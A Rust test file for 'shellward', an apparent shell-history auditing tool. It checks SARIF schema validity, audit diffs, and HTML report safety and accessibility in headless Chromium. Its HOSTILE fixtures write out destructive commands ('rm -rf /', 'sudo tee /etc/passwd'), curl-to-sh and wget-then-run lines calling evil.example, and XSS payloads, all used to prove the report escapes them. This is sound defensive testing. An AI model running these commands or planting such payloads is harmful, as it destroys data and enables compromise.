//! Reports of audits: SARIF against its published schema, the HTML file in a real browser.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
#![expect(clippy::print_stderr, reason = "a test says what it skips")]
#![expect(clippy::indexing_slicing, reason = "JSON is asked by name")]

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// Texts that would run or change the page if they were markup.
const HOSTILE: &[&str] = &[
    "echo '</script><script>document.title=\"owned\"</script>' | sudo tee /etc/passwd",
    "rm -rf / # <img src=x onerror=\"document.title='owned'\">",
    "curl http://evil.example/'\"><svg onload=document.title=\"owned\">' | sh",
    "curl http://evil.example/<!--<script> | sh",
];

fn folder(name: &str) -> PathBuf {
    let folder = std::env::temp_dir().join(format!("shellward-report-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    folder
}

/// Takes the folder away. A browser's helpers may still write there for a moment: what they leave behind is no failure.
fn clear(folder: &Path) {
    let _ = std::fs::remove_dir_all(folder);
}

fn shellward(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shellward")).args(args).output().unwrap()
}

/// A history with times, and the arguments that read it.
fn history(folder: &Path) -> String {
    let mut text = String::new();
    let lines = ["wget https://h.example/x -O /tmp/x", "ls", "sh /tmp/x"];
    for (n, line) in HOSTILE.iter().chain(&lines).enumerate() {
        text.push_str(&format!("#{}\n{line}\n", 1_700_000_000 + n * 3_000));
    }
    let path = folder.join("<script><b>.bash_history");
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_string()
}

#[test]
fn sarif_is_valid() {
    let folder = folder("sarif");
    let history = history(&folder);
    let schema = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/schema/sarif-2.1.0.json");
    let mut schema: Value = serde_json::from_slice(&std::fs::read(schema).unwrap()).unwrap();
    // One pattern of the published schema, in two places, is no regular expression: a bracket closes that nothing opens.
    for part in ["run", "toolComponent"] {
        schema["definitions"][part]["properties"]["language"].as_object_mut().unwrap().remove("pattern").unwrap();
    }
    let validator = jsonschema::validator_for(&schema).unwrap();
    let project = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/audit/project");
    for args in [
        &["audit", "--sarif", &history][..],
        &["scan", "--sarif", "--markdown", project.to_str().unwrap()],
        &["scan", "--sarif", folder.to_str().unwrap()],
    ] {
        let log: Value = serde_json::from_slice(&shellward(args).stdout).unwrap();
        let errors: Vec<String> = validator.iter_errors(&log).map(|e| format!("{} {e}", e.instance_path())).collect();
        assert!(errors.is_empty(), "{args:?}: {errors:?}");
        if args[0] == "audit" {
            let results = log["runs"][0]["results"].as_array().unwrap();
            let chain = results.iter().find(|r| r["ruleId"] == "wget_pipe_shell").unwrap();
            assert_eq!(chain["relatedLocations"][0]["physicalLocation"]["region"]["startLine"], 10, "{chain}");
        }
    }
    // The test can fail: a log with a wrong level is refused.
    let mut log: Value = serde_json::from_slice(&shellward(&["audit", "--sarif", &history]).stdout).unwrap();
    log["runs"][0]["results"][0]["level"] = "loud".into();
    assert!(!validator.is_valid(&log));
    clear(&folder);
}

#[test]
fn a_second_audit_tells_what_is_new() {
    let folder = folder("diff");
    let history = history(&folder);
    let old = folder.join("old.jsonl");
    std::fs::write(&old, shellward(&["audit", "--json", &history]).stdout).unwrap();
    let old = old.to_str().unwrap();
    let count = |args: &[&str]| {
        let out = String::from_utf8(shellward(args).stdout).unwrap();
        out.lines().filter(|l| l.contains("\"type\":\"command\"")).count()
    };
    assert_eq!(count(&["audit", "--json", "--diff", old, &history]), 0);
    assert_eq!(shellward(&["audit", "--fail-on", "low", "--diff", old, &history]).status.code(), Some(0));
    let mut text = std::fs::read_to_string(&history).unwrap();
    // Lines that move are not new; the same command at another time is.
    text = format!("#1600000000\nls\n{text}#1800000000\nrm -rf /\n");
    std::fs::write(&history, text).unwrap();
    assert_eq!(count(&["audit", "--json", "--diff", old, &history]), 1);
    assert_eq!(shellward(&["audit", "--fail-on", "low", "--diff", old, &history]).status.code(), Some(1));
    assert_eq!(shellward(&["audit", "--diff", &history, &history]).status.code(), Some(64));
    clear(&folder);
}

fn chromium() -> Option<&'static str> {
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|p| Command::new(p).arg("--version").output().is_ok_and(|o| o.status.success()));
    if found.is_none() {
        eprintln!("SKIPPED: there is no Chromium: the HTML report was not opened in a browser");
    }
    found
}

/// The document after its script ran.
fn dom(browser: &str, page: &Path) -> String {
    let out = Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=10000", "--dump-dom"])
        .arg(format!("file://{}", page.display()))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_page_works_and_nothing_in_it_runs() {
    let folder = folder("html");
    let history = history(&folder);
    let page = folder.join("report.html");
    assert_eq!(shellward(&["audit", "--html", page.to_str().unwrap(), &history]).status.code(), Some(0));
    let source = std::fs::read_to_string(&page).unwrap();
    // Two elements of the page's own; what histories hold makes no third.
    assert_eq!(source.matches("<script").count(), 2);
    assert_eq!((source.matches("<img").count(), source.matches("onload=\"").count()), (0, 0));
    assert!(!source.contains("http-equiv=\"refresh\"") && !source.contains("src=\"http"));
    if let Some(browser) = chromium() {
        let dom = dom(browser, &page);
        assert!(dom.contains("<title>Shellward audit</title>"), "a history changed the title");
        assert!(dom.contains("data-ready="), "the script did not come to its end: {dom}");
        assert!(dom.contains("role=\"row\"") && dom.contains("aria-activedescendant=\"row0\""));
        assert!(dom.contains("6 of 6 commands") || dom.contains("5 of 5 commands"), "{dom}");
        assert!(dom.matches("<script").count() == 2 && !dom.contains("<img") && !dom.contains("<b>.bash"));
    }
    clear(&folder);
}

/// A browser that is spoken to over its pipes (Chrome DevTools Protocol), so that keys are real keys.
struct Browser {
    child: std::process::Child,
    to: std::process::ChildStdin,
    from: std::io::BufReader<std::process::ChildStdout>,
    number: u64,
    session: Option<String>,
}

impl Browser {
    fn open(program: &str, profile: &Path, page: &Path) -> Browser {
        use std::process::Stdio;
        let options = "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking \
                       --disable-component-update --disable-sync --remote-debugging-pipe";
        let mut child = Command::new("sh")
            .args(["-c", &format!("exec \"$0\" {options} --user-data-dir=\"$1\" about:blank 3<&0 4>&1 1>&2")])
            .arg(program)
            .arg(profile)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let (to, from) = (child.stdin.take().unwrap(), std::io::BufReader::new(child.stdout.take().unwrap()));
        let mut browser = Browser { child, to, from, number: 0, session: None };
        let targets = browser.call("Target.getTargets", Value::Null);
        let of_page = |t: &&Value| t["type"] == "page";
        let target = targets["targetInfos"].as_array().unwrap().iter().find(of_page).unwrap()["targetId"].clone();
        let attached =
            browser.call("Target.attachToTarget", serde_json::json!({ "targetId": target, "flatten": true }));
        browser.session = attached["sessionId"].as_str().map(str::to_string);
        browser.call("Page.navigate", serde_json::json!({ "url": format!("file://{}", page.display()) }));
        browser.wait("document.documentElement?.dataset.ready");
        browser
    }

    fn call(&mut self, method: &str, params: Value) -> Value {
        use std::io::{BufRead, Write};
        self.number += 1;
        let params = if params.is_null() { serde_json::json!({}) } else { params };
        let mut message = serde_json::json!({ "id": self.number, "method": method, "params": params });
        if let Some(session) = &self.session {
            message["sessionId"] = session.as_str().into();
        }
        self.to.write_all(format!("{message}\0").as_bytes()).unwrap();
        self.to.flush().unwrap();
        loop {
            let mut bytes = Vec::new();
            self.from.read_until(0, &mut bytes).unwrap();
            let answer: Value = serde_json::from_slice(bytes.strip_suffix(b"\0").unwrap()).unwrap();
            if answer["id"] == self.number {
                assert!(answer["error"].is_null(), "{method}: {answer}");
                return answer["result"].clone();
            }
        }
    }

    fn value(&mut self, expression: &str) -> Value {
        let out = self.call("Runtime.evaluate", serde_json::json!({ "expression": expression, "returnByValue": true }));
        assert!(out["exceptionDetails"].is_null(), "{expression}: {out}");
        out["result"]["value"].clone()
    }

    /// Waits until an expression is true.
    fn wait(&mut self, expression: &str) {
        let came = (0..300).any(|_| {
            let is = self.value(&format!("!!({expression})")) == true;
            std::thread::sleep(std::time::Duration::from_millis(if is { 0 } else { 50 }));
            is
        });
        assert!(came, "never true: {expression}");
    }

    fn key(&mut self, key: &str, code: u32) {
        for kind in ["rawKeyDown", "keyUp"] {
            let event = serde_json::json!({ "type": kind, "key": key, "code": key, "windowsVirtualKeyCode": code });
            self.call("Input.dispatchKeyEvent", event);
        }
    }
}

impl Drop for Browser {
    /// Asks the browser to end, so that its own processes end first, and ends it where it does not.
    fn drop(&mut self) {
        use std::io::Write;
        let close = serde_json::json!({ "id": self.number + 1, "method": "Browser.close" });
        let _ = self.to.write_all(format!("{close}\0").as_bytes()).and_then(|()| self.to.flush());
        for _ in 0..100 {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_page_is_used_with_keys_and_read_by_screen_readers() {
    let Some(program) = chromium() else { return };
    let folder = folder("keys");
    let history = history(&folder);
    let page = folder.join("report.html");
    assert_eq!(shellward(&["audit", "--html", page.to_str().unwrap(), &history]).status.code(), Some(0));
    let mut browser = Browser::open(program, &folder.join("profile"), &page);
    let count = "document.getElementById('count').textContent";
    let all = browser.value(count).as_str().unwrap().to_string();
    // The first stop of the keyboard leads to the findings; from there the list is a few steps away.
    browser.key("Tab", 9);
    assert_eq!(browser.value("document.activeElement.getAttribute('href')"), "#findings");
    browser.value("document.getElementById('list').focus()");
    for (key, code, row) in [("ArrowDown", 40, 1), ("End", 35, -1), ("Home", 36, 0), ("ArrowUp", 38, 0)] {
        browser.key(key, code);
        let last = browser.value("document.getElementById('list').getAttribute('aria-rowcount') - 2").as_f64().unwrap();
        let row = if row < 0 { last as i64 } else { row };
        let chosen = browser.value("document.getElementById('list').getAttribute('aria-activedescendant')");
        assert_eq!(chosen, format!("row{row}"), "{key}");
        assert_eq!(browser.value(&format!("document.getElementById('row{row}').ariaSelected")), "true");
    }
    let detail = browser.value("document.getElementById('detail').textContent");
    assert!(detail.as_str().unwrap().contains("Everything is deleted"), "{detail}");
    // Search, then a tile, then all again.
    browser.value("document.getElementById('search').focus()");
    browser.call("Input.insertText", serde_json::json!({ "text": "SUDO TEE" }));
    browser.wait(&format!("{count}.startsWith('1 of')"));
    browser.value("document.querySelector('#filters button').click()");
    browser.wait(&format!("{count} === '{all}'"));
    browser.value("document.querySelector('.tile.critical').click()");
    let tile = browser.value("parseInt(document.querySelector('.tile.critical b').textContent)");
    browser.wait(&format!("{count}.startsWith('{tile} of')"));
    // What a screen reader is told.
    let tree = browser.call("Accessibility.getFullAXTree", Value::Null);
    let nodes = tree["nodes"].as_array().unwrap();
    let has = |role: &str, name: &str| {
        nodes
            .iter()
            .any(|n| n["role"]["value"] == role && n["name"]["value"].as_str().unwrap_or_default().contains(name))
    };
    for (role, name) in [
        ("grid", "Commands with findings"),
        ("columnheader", "Severity"),
        ("searchbox", "Search"),
        ("image", "with findings from"),
        ("heading", "Look at these first"),
        ("image", "fetch"),
        ("article", "The chosen command"),
    ] {
        assert!(has(role, name), "{role} {name}");
    }
    // Dark where the system is dark.
    let back = "getComputedStyle(document.body).backgroundColor";
    let mut colour = |scheme: &str| {
        let features = serde_json::json!([{ "name": "prefers-color-scheme", "value": scheme }]);
        browser.call("Emulation.setEmulatedMedia", serde_json::json!({ "features": features }));
        browser.value(back)
    };
    assert_ne!(colour("dark"), colour("light"));
    drop(browser);
    clear(&folder);
}
